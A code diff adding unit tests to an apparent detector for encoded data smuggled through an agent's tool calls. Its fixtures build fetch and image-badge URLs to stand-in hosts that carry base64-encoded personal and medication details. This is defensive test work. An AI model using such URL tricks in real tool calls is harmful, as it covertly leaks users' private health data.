@@ -100,3 +100,26 @@ def test_the_sentence_says_what_stands_there() -> None:
 )
 def test_s22_the_work_grows_with_the_text_alone(piece: str) -> None:
     assert slower(lambda text: list(find_encoded(bare("run", {"command": text}))), piece) < LONG
+
+
+WORDS = b64("name=Gwen Okafor;born=1979;medicines=metformin and others")
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("fetch", {"url": f"https://plan.example/w?p={WORDS}"}),
+        ("post_message", {"text": f"Here is the badge: https://img.example/b.svg?t={WORDS} and more words."}),
+    ],
+)
+def test_words_behind_an_encoding_in_an_address_are_told(tool: str, arguments: dict[str, str]) -> None:
+    (hit,) = find_encoded(call(tool, arguments))
+    (text,) = arguments.values()
+    assert (hit.kind, hit.severity) == ("hidden-characters", MEDIUM)
+    assert hit.span is not None
+    assert text[slice(*hit.span)] == WORDS
+
+
+@pytest.mark.parametrize("plain", ["cursor:v2:2024-11-02T10:00:00Z:8841", '{"after": "a place in a list, and more"}'])
+def test_a_place_in_a_list_is_no_words(plain: str) -> None:
+    assert not list(find_encoded(call("fetch", {"url": f"https://a.example/list?after={b64(plain)}"})))
